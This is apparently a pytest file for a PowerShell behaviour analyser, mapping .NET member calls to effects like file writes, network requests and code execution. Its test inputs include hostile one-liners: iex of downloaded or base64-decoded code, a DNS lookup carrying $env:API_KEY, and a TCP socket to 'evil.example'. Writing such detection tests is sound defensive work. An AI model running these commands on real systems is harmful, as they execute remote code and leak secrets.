"""Members of .NET objects."""

from __future__ import annotations

import pytest
from support.code import deeds, powershell


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (r"[System.IO.File]::Delete('C:\x')", ["DeletePath C:/x"]),
        (r"[IO.File]::WriteAllText('a', 'x')", ["WritePath C:/src/app/a"]),
        (r"[IO.File]::ReadAllText('.env')", ["ReadPath C:/src/app/.env"]),
        (r"[IO.File]::Move('a', 'C:\b')", ["MovePath C:/src/app/a C:/b"]),
        (r"[IO.File]::Copy('a', 'C:\b')", ["CopyPath C:/src/app/a C:/b"]),
        ("(New-Object Net.WebClient).DownloadString('https://x.y/a')", ["Request x.y"]),
        (r"(New-Object Net.WebClient).DownloadFile('https://x.y/a', 'b')", ["Request x.y", "WritePath C:/src/app/b"]),
        ("iex ((New-Object System.Net.WebClient).DownloadString('https://x.y'))", ["Request x.y", "RunCode download"]),
        ('[Net.Dns]::GetHostAddresses("$env:API_KEY.x.y")', ["SendData a name look-up"]),
        ("Write-Host ([Environment]::GetEnvironmentVariable('API_KEY'))", ["RevealSecret <$env:API_KEY>"]),
        ("[Environment]::GetEnvironmentVariables()", ["RevealSecret <the whole environment>"]),
        ("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('ZWNobw==')))", ["RunCode decoded"]),
        ("[Reflection.Assembly]::Load($b)", ["RunCode generated"]),
        ("[Diagnostics.Process]::Start('notepad')", []),
        ("(New-Object Net.Sockets.TCPClient('evil.example', 80)).GetStream()", ["SendData evil.example"]),
        ("'a,b'.Split(',')[0].ToUpper()", []),
        ("[Math]::Max(1, 2)", []),
        ("[guid]::NewGuid().ToString()", []),
    ],
)
def test_members(code: str, expected: list[str]) -> None:
    """Methods that do something are what a cmdlet would be."""
    found = deeds(powershell(code))
    assert expected == [word for word in found if not word.startswith("RunCode system")]
